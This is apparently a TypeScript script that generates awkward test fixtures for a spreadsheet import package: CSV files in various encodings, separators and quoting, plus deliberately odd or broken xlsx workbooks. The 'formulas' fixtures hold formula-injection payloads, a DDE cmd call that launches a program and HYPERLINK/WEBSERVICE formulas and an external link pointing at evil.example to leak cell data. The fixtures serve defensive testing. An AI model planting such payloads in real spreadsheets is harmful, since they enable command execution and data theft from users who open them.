import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { workbookFile } from '../workbook-file.ts'
import { zipFile } from '../zip-file.ts'

// Makes the files of this folder that a program can make: node packages/spreadsheets/test/ugly-files/make-ugly-files.ts. Of the others the README tells.

const utf16 = (text: string) => Buffer.from(text, 'utf16le')
const turned = (bytes: Buffer) => Buffer.from(bytes).swap16()
const windows = (text: string) => Buffer.from(text.replaceAll('€', '\x80'), 'latin1')
const MARK = '\uFEFF'

const PEOPLE = [
  ['Naam', 'E-mail', 'Aantal', 'Prijs'],
  ['José Muñoz', 'jose@voorbeeld.nl', '1.000', '€ 12,50'],
  ['Zoë van ’t Hof', 'zoe@voorbeeld.nl', '25', '€ 1.234,56'],
]
const people = (separator: string, newline: string) =>
  PEOPLE.map((row) => row.join(separator) + newline).join('')
// An apostrophe that Windows-1252 has at another place than Latin 1.
const inWindows = (text: string) => windows(text.replaceAll('’', '\x92'))

const texts: Record<string, string | Uint8Array> = {
  'utf-8.csv': people(';', '\n'),
  'utf-8-mark.csv': MARK + people(';', '\r\n'),
  'windows-1252.csv': inWindows(people(';', '\r\n')),
  'utf-16-le-mark.csv': utf16(MARK + people('\t', '\r\n')),
  'utf-16-le.csv': utf16(people('\t', '\r\n')),
  'utf-16-be-mark.csv': turned(utf16(MARK + people(';', '\r\n'))),
  'utf-16-be.csv': turned(utf16(people(';', '\r\n'))),
  'old-mac.csv': people(';', '\r'),
  'bars.csv': people('|', '\r\n'),
  'mixed-encodings.csv': Buffer.concat([
    inWindows(people(';', '\r\n')),
    Buffer.from('Renée Blöm;renee@voorbeeld.nl;3;€ 9,00\r\n'),
  ]),
  'commas.csv':
    'Name,Address,Amount\r\n"Vries, Anna de","Dam 1, Amsterdam","1,234.56"\r\n"Smit, Bo","Plein 2, Gouda",10\r\n',
  'comma-amounts.csv': 'Saldo;Koers;Inleg\n1,50;2,50;3,50\n4,50;5,50;6,50\n7,50;8,50;9,50\n',
  'semicolons-in-cells.csv': 'email,amount,numbering\na@b.nl,4,1-2;5-6\nc@d.nl,2,3-4\n',
  'named-separator.csv': 'sep=,\r\nNaam,Nummers\r\nAnna,1-2;5-6;9-10\r\n',
  'quotes.csv':
    'Naam;Opmerking\n"Anna ""de boekhouder"" Smit";"twee\r\nregels"\nCafé "De Zon";6" buis\n"Bo" ;"a;b"\n"met "losse" erin";c\n',
  'open-quote.csv': 'Naam;Aantal\nAnna;1\n"Bo;2\nCees;3\n',
  'lines-around.csv':
    'Register van aandeelhouders, per 31-12-2026;;\n;;\n\nNaam;Aantal;Datum\nAnna;1;31-12-2026\n\nBo;2\nCees;3;1-1-2027;;;\nTotaal;6;\n',
  'control-characters.csv': 'Naam;Aantal\nAn\u0007na\u0000;1\u001f\n\u200bBo\u00a0Smit;2\n',
  'formulas.csv':
    'Naam;Aantal\n=cmd|\' /C calc\'!A0;1\n=HYPERLINK("http://evil.example/?x="&A1);=1+1\n@SUM(A1);-1\n',
  'one-column.csv': 'E-mail\nanna@voorbeeld.nl\nbo@voorbeeld.nl\n',
  'header-only.csv': 'Naam;E-mail;Aantal\r\n',
  'empty.csv': '',
  'blank.csv': '\r\n;;;\r\n\r\n',
  'text.xls': people('\t', '\r\n'),
  'page.xls': '<html><body><table><tr><td>Naam</td></tr></table></body></html>',
  'excel-2003-xml.xls':
    '<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
  'paper.xlsx': '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n',
}

const header = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
const sheets = workbookFile({
  sharedStrings: [
    '<t>Naam</t>',
    '<t>Aantal</t>',
    '<r><rPr><b/></rPr><t>Anna </t></r><r><t xml:space="preserve">de Vries &amp; Zn.</t></r><rPh sb="0" eb="4"><t>anna</t></rPh>',
    '<t>Bel_x0007_ en _x005F_x0007_</t>',
  ],
  sheets: [
    {
      name: 'Werkblad van het systeem',
      state: 'veryHidden',
      rows: '<row><c t="inlineStr"><is><t>verborgen</t></is></c></row>',
    },
    {
      name: 'Deelnemers &amp; co',
      rows: `${header}<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>1E3</v></c></row><row r="3"/><row r="10" ht="15"><c r="A10" s="1"/><c r="C10" t="s"><v>3</v></c></row>`,
      behind: '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>',
    },
    { name: 'Leeg', rows: '' },
    {
      name: 'Stand',
      rows: '<row r="1"><c r="A1" t="inlineStr"><is><r><t>E-</t></r><r><t>mail</t></r></is></c><c r="B1" t="b"><v>1</v></c><c r="C1" t="e"><v>#N/A</v></c></row>',
    },
  ],
})

const dates =
  '<row r="1"><c r="A1" s="1"><v>46387</v></c><c r="B1" s="2"><v>46387.75</v></c><c r="C1"><v>46387</v></c><c r="D1" s="1"><v>0.5</v></c><c r="E1" t="d"><v>2026-12-31T00:00:00</v></c></row>'

const workbooks: Record<string, Uint8Array> = {
  'sheets.xlsx': sheets,
  'called-text.csv': sheets,
  'merged-header.xlsx': workbookFile({
    sheets: [
      {
        name: 'Blad1',
        rows: '<row r="1"><c r="A1" t="str"><v>Verkoper</v></c><c r="B1"/><c r="C1" t="str"><v>Koper</v></c></row><row r="2"><c r="A2" t="str"><v>Naam</v></c><c r="B2" t="str"><v>E-mail</v></c><c r="C2" t="str"><v>Naam</v></c><c r="D2" t="str"><v>E-mail</v></c></row>',
        behind: '<mergeCells><mergeCell ref="A1:B1"/><mergeCell ref="C1:D1"/></mergeCells>',
      },
    ],
  }),
  'formulas.xlsx': workbookFile({
    sheets: [
      {
        name: 'Blad1',
        rows: `<row r="1"><c r="A1"><f>SUM(B1:B9)</f><v>12.5</v></c><c r="B1" t="str"><f>A1&amp;"x"</f><v>12,5x</v></c><c r="C1" t="str"><f>IF(A1&gt;1,"","")</f><v></v></c><c r="D1"><f>A1*2</f></c><c r="E1" s="1"><f>TODAY()</f><v>46387</v></c></row><row r="2"><c r="A2"><f>[1]Blad1!$A$1</f><v>7</v></c><c r="B2" t="e"><f>cmd|' /C calc'!A0</f><v>#REF!</v></c><c r="C2" t="str"><f>WEBSERVICE("http://evil.example/")</f><v>antwoord</v></c></row>`,
      },
    ],
    parts: {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><externalBook href="http://evil.example/"/></externalLink>',
    },
  }),
  'dates-1900.xlsx': workbookFile({ sheets: [{ name: 'Blad1', rows: dates }] }),
  'dates-1904.xlsx': workbookFile({ sheets: [{ name: 'Blad1', rows: dates }], startsIn1904: true }),
  'other-prefix.xlsx': workbookFile({
    sheets: [{ name: 'Blad1', rows: '' }],
    parts: {
      'xl/worksheets/sheet1.xml':
        '<?xml version="1.0"?><!-- <row> --><x:worksheet xmlns:x="urn:x"><x:sheetData><x:row><x:c t=\'str\'><x:v><![CDATA[<a&b>]]></x:v></x:c><x:c><x:v>2</x:v></x:c></x:row ></x:sheetData></x:worksheet>',
    },
  }),
  'control-characters.xlsx': workbookFile({
    sheets: [
      { name: 'Blad1', rows: '<row><c t="str"><v>a_x0000_b&#x7;c&#xE9;\u0007</v></c></row>' },
    ],
  }),
  'header-only.xlsx': workbookFile({
    sheets: [{ name: 'Blad1', rows: '<row><c t="str"><v>E-mail</v></c></row>' }],
  }),
  'nothing-in-it.xlsx': workbookFile({
    sheets: [{ name: 'Blad1', rows: '<row r="1"/><row r="2"><c r="A2" s="1"/></row>' }],
  }),
  'truncated.xlsx': sheets.subarray(0, Math.floor(sheets.length * 0.7)),
  'broken-xml.xlsx': workbookFile({
    sheets: [{ name: 'Blad1', rows: '<row><c t="str"><v>Anna</v></c></row><row><c r="A2"' }],
  }),
  'missing-sheet.xlsx': workbookFile({
    sheets: [],
    parts: {
      'xl/workbook.xml':
        '<workbook xmlns:r="urn:r"><sheets><sheet name="Weg" r:id="rId9"/></sheets></workbook>',
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId9" Type="urn:x/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
    },
  }),
  'document.xlsx': zipFile({
    '_rels/.rels':
      '<Relationships><Relationship Id="rId1" Type="urn:x/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml': '<w:document xmlns:w="urn:w"/>',
  }),
  'binary.xlsx': zipFile({
    '_rels/.rels':
      '<Relationships><Relationship Id="rId1" Type="urn:x/officeDocument" Target="xl/workbook.bin"/></Relationships>',
    'xl/workbook.bin': '\u0001',
  }),
  'open-document.xlsx': zipFile({
    mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
    'content.xml': '<office:document-content xmlns:office="urn:o"/>',
  }),
  'pictures.xlsx': zipFile({ 'foto.jpg': 'x' }),
}

for (const [name, content] of Object.entries({ ...texts, ...workbooks }))
  writeFileSync(join(import.meta.dirname, name), content)
